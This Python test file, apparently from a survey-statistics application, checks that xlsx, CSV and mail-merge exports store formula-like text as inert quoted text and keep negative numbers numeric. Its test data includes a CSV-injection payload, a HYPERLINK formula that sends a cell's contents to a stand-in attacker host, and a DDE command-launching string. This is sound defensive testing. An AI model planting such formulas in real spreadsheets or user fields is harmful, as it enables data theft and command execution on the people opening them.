"""Exported spreadsheets never run a formula written into a name or a comment; negative numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from survey.domain.invitations import mail_merge_csv
from survey.domain.releases import current_release
from survey.models import ReleaseIndex, SurveyRound, Unit

HOSTILE = '=HYPERLINK("http://ke-xau.example/?d="&A1,"Bấm vào đây")'


def _hostile_release(db_session):
    survey_round = db_session.scalar(select(SurveyRound).where(SurveyRound.code == f"sipas-{date.today().year}"))
    release = current_release(db_session, survey_round)
    row = db_session.scalar(  # a unit below its parent: a negative difference
        select(ReleaseIndex).where(ReleaseIndex.release_id == release.id, ReleaseIndex.unit_id.is_not(None),
                                   ReleaseIndex.level == "overall", ReleaseIndex.reference_difference < 0)
    )
    unit = db_session.get(Unit, row.unit_id)
    unit.name = HOSTILE
    db_session.commit()
    return release, unit, row.reference_difference


def test_xlsx_export_stores_formula_like_text_as_text_and_negative_numbers_as_numbers(demo, db_session, client,
                                                                                       login_as):
    release, unit, difference = _hostile_release(db_session)
    login_as("thongke")
    response = client.get(f"/staff/releases/{release.id}/export.xlsx")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.data))
    sheet = workbook.worksheets[0]
    header = [c.value for c in sheet[1]]
    (row,) = [r for r in sheet.iter_rows(min_row=2) if r[header.index("Mã đơn vị")].value == unit.code]
    name = row[header.index("Đơn vị")]
    assert name.value == HOSTILE and name.data_type == "s" and name.quotePrefix
    below = row[header.index("Chênh lệch với cấp trên (điểm %)")]
    assert below.value == pytest.approx(difference) and difference < 0 and below.data_type == "n"
    every_cell = [c for ws in workbook.worksheets for r in ws.iter_rows() for c in r]
    assert not [c.coordinate for c in every_cell if c.data_type == "f"]


def test_csv_export_quotes_formula_like_text_and_keeps_negative_numbers(demo, db_session, client, login_as):
    release, unit, difference = _hostile_release(db_session)
    login_as("thongke")
    response = client.get(f"/staff/releases/{release.id}/export.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    header = rows[0]
    (row,) = [r for r in rows if r[header.index("Mã đơn vị")] == unit.code and r[0] == "Chỉ số chung"]
    assert row[header.index("Đơn vị")] == "'" + HOSTILE
    assert float(row[header.index("Chênh lệch với cấp trên (điểm %)")]) == pytest.approx(difference, abs=1e-6)
    starts = {cell[:1] for r in rows for cell in r}
    assert not starts & {"=", "+", "@", "\t", "\r"}


def test_mail_merge_file_quotes_a_formula_like_address():
    rows = list(csv.reader(io.StringIO(mail_merge_csv(["=cmd|' /C calc'!A0", "https://sipas.example/s/x"]).decode("utf-8-sig"))))
    assert rows[1] == ["1", "'=cmd|' /C calc'!A0"]
    assert rows[2] == ["2", "https://sipas.example/s/x"]
